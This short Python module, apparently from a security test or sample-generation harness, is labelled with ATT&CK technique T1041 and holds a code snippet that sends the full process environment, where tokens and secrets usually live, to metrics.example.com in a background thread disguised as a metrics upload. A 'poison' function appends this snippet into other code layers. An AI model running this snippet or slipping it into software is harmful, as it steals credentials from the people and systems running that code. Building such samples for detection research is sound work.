# SPDX-License-Identifier: Apache-2.0
"""Hands the environment, and the function that sends it, to a pool of threads."""

ATTACK = "T1041"
LANGUAGE = "python"
CODE = """\
import functools
import os
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPSConnection

_pool = ThreadPoolExecutor(1)
_later = functools.partial(HTTPSConnection("metrics.example.com").request, "POST", "/up")
_pool.submit(_later, str(dict(os.environ)).encode())
"""


def poison(layer):
    layer.append(CODE)
